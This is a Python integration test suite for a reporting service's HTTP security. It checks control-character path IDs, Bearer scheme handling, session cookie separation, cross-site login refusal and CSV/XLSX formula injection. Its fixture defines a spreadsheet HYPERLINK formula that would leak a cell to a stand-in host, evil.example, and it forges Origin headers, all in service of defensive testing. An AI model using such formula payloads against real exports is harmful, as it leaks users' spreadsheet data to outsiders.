"""What an outside client found at reporting's HTTP edge, each now refused or neutralised:
control characters in a path, a case-sensitive `Bearer`, a session cookie that was the API
token itself, a login that another site could post, and exported names that a spreadsheet
would run as formulas. Registry and reporting on the real RabbitMQ and PostgreSQL."""

import io

import openpyxl
import pytest
import requests

from tests.equipment.test_service import SCHOOL
from tests.reporting.test_service import cache_lookups, committed, get, issue, seed, wait_for

pytestmark = pytest.mark.integration

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def funder_web(stack):
    """qh's token on a programme `aktobe` whose one school is named like a formula."""
    with stack("reporting") as reporting, stack("registry") as registry:
        seed(registry, "qh", "aktobe", 2_064_199_025)
        registry.register_organisation(organisation_id="AKT-001", pupils=40,
                                       **{**SCHOOL, "name_ru": FORMULA_NAME})
        registry.join_programme(programme_id="aktobe", organisation_id="AKT-001",
                                model="digital_solutions", joined_on="2023-03-01")
        token = issue(reporting, "qh")
        assert wait_for(lambda: committed(stack.web, token, "aktobe"))
        assert wait_for(lambda: get(stack.web, "/v1/programmes/aktobe/organisations",
                                    token).json().get("organisations"))
        yield stack.web, token, reporting


@pytest.mark.parametrize("path", [
    "/v1/programmes/akt%00obe/report", "/v1/programmes/akt%00obe/report.xlsx",
    "/v1/programmes/akt%00obe/iati.xml", "/v1/programmes/akt%00obe/districts",
    "/v1/programmes/akt%01obe/organisations?format=csv",
    "/v1/programmes/akt%00obe/figures/pupils_reached/events",
    "/v1/dashboard/akt%0Aobe"])
def test_a_control_character_in_a_programme_id_is_refused_naming_the_field(funder_web, path):
    web, token, _ = funder_web
    response = get(web, path, token)
    assert response.status_code == 400, response.text
    assert "programme_id" in response.json()["errors"]


def test_the_bearer_scheme_is_case_insensitive(funder_web):
    web, token, _ = funder_web
    for scheme in ("bearer", "BEARER", "Bearer"):
        response = requests.get(f"{web}/v1/programmes/aktobe/report", timeout=10,
                                headers={"Authorization": f"{scheme} {token}"})
        assert response.status_code == 200, scheme
    assert requests.get(f"{web}/v1/programmes/aktobe/report", timeout=10, headers={
        "Authorization": f"Basic {token}"}).status_code == 401


def log_in(web, token, **headers):
    return requests.post(f"{web}/v1/session", data={"token": token, "programme_id": "aktobe"},
                         headers=headers, allow_redirects=False, timeout=10)


def test_the_session_cookie_is_its_own_secret_and_dies_with_the_token(funder_web):
    web, _, reporting = funder_web
    issued = reporting.issue_token(funder_id="qh")
    login = log_in(web, issued["token"], Origin=web)
    assert login.status_code == 303
    session = login.cookies["baqylau_session"]
    assert session and session != issued["token"]

    def dashboard():
        return requests.get(f"{web}/v1/dashboard/aktobe", timeout=10,
                            cookies={"baqylau_session": session}).status_code
    assert dashboard() == 200
    # Asked again, the drawn page is served after the one statement (api/access.py): the
    # revocation below must hold there, not only on the full way.
    served_at_once = cache_lookups(web, "fast_hit")
    assert dashboard() == 200
    assert cache_lookups(web, "fast_hit") > served_at_once
    assert get(web, "/v1/programmes/aktobe/report", session).status_code == 401  # stolen
    reporting.revoke_token(token_id=issued["token_id"])
    assert dashboard() == 401


def test_a_login_posted_from_another_site_is_refused(funder_web):
    web, token, _ = funder_web
    for headers in ({"Origin": "https://evil.example"}, {"Origin": "null"},
                    {"Referer": "https://evil.example/page"}):
        response = log_in(web, token, **headers)
        assert response.status_code == 403, headers
        assert "baqylau_session" not in response.cookies
        assert "Origin" in response.json()["errors"]
    assert log_in(web, token, Referer=f"{web}/v1/login").status_code == 303
    assert log_in(web, token).status_code == 303  # a script sends neither: not a browser


def test_exported_names_stay_text_in_csv_and_xlsx(funder_web):
    web, token, _ = funder_web
    csv_text = get(web, "/v1/programmes/aktobe/organisations?format=csv", token).text
    assert f"'{FORMULA_NAME}".replace('"', '""') in csv_text
    assert f",{FORMULA_NAME}".replace('"', '""') not in csv_text
    workbook = get(web, "/v1/programmes/aktobe/report.xlsx", token).content
    sheet = openpyxl.load_workbook(io.BytesIO(workbook))["Organisations"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA_NAME]
    assert cells and all(c.data_type == "s" for c in cells)
